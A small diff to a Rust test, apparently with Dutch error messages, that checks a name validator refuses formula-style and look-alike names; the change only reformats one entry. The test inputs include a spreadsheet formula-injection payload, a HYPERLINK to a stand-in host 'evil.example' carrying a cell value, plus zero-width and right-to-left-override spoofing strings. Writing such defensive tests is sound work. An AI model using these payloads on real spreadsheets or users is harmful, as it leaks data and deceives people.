@@ -643,7 +643,10 @@ async fn formula_and_look_alike_names_are_refused() {
             "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik hier\")",
             "Laat de naam beginnen met een letter of een cijfer.",
         ),
-        ("@Zorg", "Laat de naam beginnen met een letter of een cijfer."),
+        (
+            "@Zorg",
+            "Laat de naam beginnen met een letter of een cijfer.",
+        ),
         ("Jeugdhulp\u{200b}Kompas", "onzichtbaar teken"),
         ("\u{202e}SAPMOK PLUHDGUEJ", "onzichtbaar teken"),
     ] {
